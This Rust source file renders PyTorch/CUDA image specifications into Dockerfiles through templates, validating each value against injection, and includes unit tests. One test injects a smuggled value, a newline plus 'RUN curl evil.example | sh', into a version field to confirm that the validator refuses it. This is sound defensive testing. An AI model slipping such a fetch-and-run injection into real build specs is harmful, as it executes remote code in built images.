//! Rendering: image spec → Dockerfile text through minijinja. Pure: the templates are embedded
//! (or handed in as text by the caller when a matrix overrides them), output goes back as values.
//!
//! Templates run with `UndefinedBehavior::Strict`, so a typo in a template is an error, not an
//! empty string. Every value placed in a template was validated by `matrix` or comes from the
//! knowledge, whose versions are digits and dots only; `check_values` checks again right here
//! before rendering, since a Dockerfile is code.

use std::collections::BTreeMap;

use minijinja::{context, Environment, UndefinedBehavior};

use crate::model::axes::Variant;
use crate::model::knowledge::wheel_suffix;
use crate::model::matrix::{check_free_text, check_image_reference, Matrix};
use crate::resolve::fingerprint::sha256_hex;
use crate::resolve::image::ImageSpec;

/// The embedded templates, by name.
pub const EMBEDDED_TEMPLATES: &[(&str, &str)] = &[
    (
        "runtime.Dockerfile.j2",
        include_str!("../../templates/runtime.Dockerfile.j2"),
    ),
    (
        "devel.Dockerfile.j2",
        include_str!("../../templates/devel.Dockerfile.j2"),
    ),
    ("header.j2", include_str!("../../templates/header.j2")),
    ("labels.j2", include_str!("../../templates/labels.j2")),
];

#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("template {name}: {source:#}")]
    Template {
        name: String,
        source: minijinja::Error,
    },
    #[error("image {image}: refusing to render unsafe value for {field}: {message}")]
    UnsafeValue {
        image: String,
        field: String,
        message: String,
    },
}

/// A set of templates: the embedded ones, with any of them replaced by a matrix's own.
#[derive(Debug, Clone)]
pub struct Templates {
    sources: BTreeMap<String, String>,
}

impl Templates {
    pub fn embedded() -> Templates {
        Templates {
            sources: EMBEDDED_TEMPLATES
                .iter()
                .map(|(name, text)| (name.to_string(), text.to_string()))
                .collect(),
        }
    }

    /// The embedded templates with `overrides` (name → text) laid over them.
    pub fn with_overrides(overrides: BTreeMap<String, String>) -> Templates {
        let mut templates = Self::embedded();
        templates.sources.extend(overrides);
        templates
    }

    /// sha256 over every template's name and text, for image fingerprints.
    pub fn digest(&self) -> String {
        let mut all = Vec::new();
        for (name, text) in &self.sources {
            all.extend_from_slice(format!("{}:{name}{}:", name.len(), text.len()).as_bytes());
            all.extend_from_slice(text.as_bytes());
        }
        sha256_hex(&all)
    }

    fn environment(&self) -> Result<Environment<'_>, RenderError> {
        let mut environment = Environment::new();
        environment.set_undefined_behavior(UndefinedBehavior::Strict);
        let syntax = minijinja::syntax::SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .keep_trailing_newline(true)
            .build()
            .map_err(|source| RenderError::Template {
                name: "syntax".into(),
                source,
            })?;
        environment.set_syntax(syntax);
        for (name, text) in &self.sources {
            environment
                .add_template(name, text)
                .map_err(|source| RenderError::Template {
                    name: name.clone(),
                    source,
                })?;
        }
        Ok(environment)
    }
}

/// One rendered image directory: file name → contents.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedImage {
    pub name: String,
    pub files: BTreeMap<String, String>,
}

/// Renders every image. Output is byte-identical for the same input.
pub fn render_all(
    images: &[ImageSpec],
    matrix: &Matrix,
    templates: &Templates,
) -> Result<Vec<RenderedImage>, RenderError> {
    let environment = templates.environment()?;
    images
        .iter()
        .map(|image| render_one(&environment, image, matrix))
        .collect()
}

fn render_one(
    environment: &Environment<'_>,
    image: &ImageSpec,
    matrix: &Matrix,
) -> Result<RenderedImage, RenderError> {
    check_values(image)?;
    let template_name = match image.variant {
        Variant::Runtime => "runtime.Dockerfile.j2",
        Variant::Devel => "devel.Dockerfile.j2",
    };
    let template =
        environment
            .get_template(template_name)
            .map_err(|source| RenderError::Template {
                name: template_name.into(),
                source,
            })?;
    let title = matrix
        .repository
        .rsplit('/')
        .next()
        .unwrap_or(&matrix.repository)
        .to_string();
    let torchvision_pin = if image.torchvision.ends_with(".*") {
        image.torchvision.clone()
    } else {
        format!("{}+{}", image.torchvision, wheel_suffix(&image.cuda))
    };
    let text = template
        .render(context! {
            image => minijinja::value::Serde(image),
            suffix => wheel_suffix(&image.cuda),
            cuda_package => image.cuda.replace('.', "-"),
            arch_list => image.archs.join(";"),
            torchvision_pin => torchvision_pin,
            pip_index => matrix.mirrors.pip_index.clone(),
            apt_mirror => matrix.mirrors.apt.clone(),
            extra_labels => matrix.labels.clone(),
            title => title,
        })
        .map_err(|source| RenderError::Template {
            name: format!("{template_name} for {}", image.name),
            source,
        })?;
    let mut files = BTreeMap::new();
    files.insert("Dockerfile".to_string(), normalize(&text));
    Ok(RenderedImage {
        name: image.name.clone(),
        files,
    })
}

/// One trailing newline, no trailing spaces, no runs of blank lines left by template blocks.
fn normalize(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blank_run = 0;
    for line in text.lines() {
        let line = line.trim_end();
        if line.is_empty() {
            blank_run += 1;
            if blank_run > 1 || out.is_empty() {
                continue;
            }
        } else {
            blank_run = 0;
        }
        out.push_str(line);
        out.push('\n');
    }
    while out.ends_with("\n\n") {
        out.pop();
    }
    out
}

/// Validates, once more and right before rendering, every value of the spec that reaches a
/// Dockerfile. A spec built by `resolve` always passes; this guards hand-made specs and
/// custom knowledge files.
pub fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
    let unsafe_value = |field: &str, message: String| RenderError::UnsafeValue {
        image: image.name.clone(),
        field: field.into(),
        message,
    };
    let version_like = |field: &str, value: &str| {
        let ok = !value.is_empty()
            && value
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".*+-_".contains(c));
        if ok {
            Ok(())
        } else {
            Err(unsafe_value(
                field,
                format!("{value:?} is not a plain version"),
            ))
        }
    };
    version_like("torch", &image.torch)?;
    version_like("torchvision", &image.torchvision)?;
    if let Some(audio) = &image.torchaudio {
        version_like("torchaudio", audio)?;
    }
    version_like("cuda", &image.cuda)?;
    version_like("cudnn", &image.cudnn)?;
    version_like("python", &image.python)?;
    version_like("os", &image.os)?;
    version_like("tag", &image.tag)?;
    version_like("driver_min", image.driver_min.as_str())?;
    for arch in &image.archs {
        version_like("archs", arch)?;
    }
    if let Some(nccl) = &image.nccl {
        version_like("nccl", nccl)?;
    }
    check_image_reference(&image.base_image).map_err(|m| unsafe_value("base_image", m))?;
    check_image_reference(&image.repository).map_err(|m| unsafe_value("repository", m))?;
    check_free_text("require_cuda", &image.require_cuda)
        .map_err(|m| unsafe_value("require_cuda", m))?;
    if !image.wheel_index.starts_with("http")
        || image
            .wheel_index
            .chars()
            .any(|c| c.is_whitespace() || "\"'\\$`;&|".contains(c))
    {
        return Err(unsafe_value(
            "wheel_index",
            format!("{:?} is not a plain URL", image.wheel_index),
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::knowledge::Knowledge;
    use crate::resolve::{resolve, ResolveOptions};

    fn specs(extra: &str) -> (Vec<ImageSpec>, Matrix) {
        let matrix = Matrix::parse(
            &format!("registry: ghcr.io\nrepository: acme/pytorch\n{extra}"),
            "m.yaml",
        )
        .unwrap();
        let resolution = resolve(
            &matrix,
            &Knowledge::test_fixture(),
            &ResolveOptions::default(),
        );
        (resolution.images, matrix)
    }

    #[test]
    fn every_template_loads_under_strict_undefined() {
        let templates = Templates::embedded();
        let environment = templates.environment().unwrap();
        for (name, _) in EMBEDDED_TEMPLATES {
            environment.get_template(name).unwrap();
        }
    }

    #[test]
    fn rendering_is_deterministic_and_pins_versions() {
        let (images, matrix) = specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n");
        let first = render_all(&images, &matrix, &Templates::embedded()).unwrap();
        let second = render_all(&images, &matrix, &Templates::embedded()).unwrap();
        assert_eq!(first, second);
        let runtime = &first[0].files["Dockerfile"];
        assert!(runtime.contains("\"torch==2.7.1+cu126\""), "{runtime}");
        assert!(runtime.contains("\"torchvision==0.22.1+cu126\""));
        assert!(runtime.contains("--index-url https://download.pytorch.org/whl/cu126"));
        assert!(runtime
            .contains("NVIDIA_REQUIRE_CUDA=\"cuda>=12.6 brand=unknown,driver>=470,driver<471"));
        assert!(runtime.contains("imagegen.driver.min=\"560.35.05\""));
        assert!(runtime.contains("COPY gpu-selftest /usr/local/bin/gpu-selftest"));
        assert!(runtime.starts_with("# syntax=docker/dockerfile:1\n# GENERATED by imagegen"));
        assert!(
            !runtime.contains("nvcc"),
            "runtime carries no CUDA compiler"
        );
        let devel = &first[1].files["Dockerfile"];
        assert!(
            devel.contains("FROM ghcr.io/acme/pytorch:2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
        );
        assert!(devel.contains("cuda-nvcc-12-6"));
        assert!(devel.contains("TORCH_CUDA_ARCH_LIST=\"5.0;6.0;7.0;7.5;8.0;8.6;9.0\""));
    }

    #[test]
    fn companions_are_pinned_exactly() {
        let (images, matrix) =
            specs("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        let text =
            &render_all(&images, &matrix, &Templates::embedded()).unwrap()[0].files["Dockerfile"];
        assert!(text.contains("\"torchvision==0.28.0+cu130\""), "{text}");
        assert!(
            text.contains("\"torchaudio==2.11.0+cu130\""),
            "torchaudio 2.11 serves every later torch: {text}"
        );
    }

    #[test]
    fn a_template_typo_is_an_error_not_an_empty_string() {
        let (images, matrix) =
            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        let mut overrides = BTreeMap::new();
        overrides.insert(
            "runtime.Dockerfile.j2".to_string(),
            "FROM {{ image.base_imag }}\n".to_string(),
        );
        let error = render_all(&images, &matrix, &Templates::with_overrides(overrides))
            .unwrap_err()
            .to_string();
        assert!(error.contains("undefined"), "{error}");
    }

    #[test]
    fn unsafe_values_in_hand_made_specs_are_refused() {
        let (mut images, matrix) =
            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        images[0].torch = "2.7.0\nRUN curl evil.example | sh".into();
        let error = render_all(&images, &matrix, &Templates::embedded())
            .unwrap_err()
            .to_string();
        assert!(
            error.contains("refusing to render unsafe value for torch"),
            "{error}"
        );
    }

    #[test]
    fn template_digest_changes_with_text() {
        let mut overrides = BTreeMap::new();
        overrides.insert("labels.j2".to_string(), "LABEL a=b\n".to_string());
        assert_ne!(
            Templates::embedded().digest(),
            Templates::with_overrides(overrides).digest()
        );
        assert_eq!(
            Templates::embedded().digest(),
            Templates::embedded().digest()
        );
    }
}
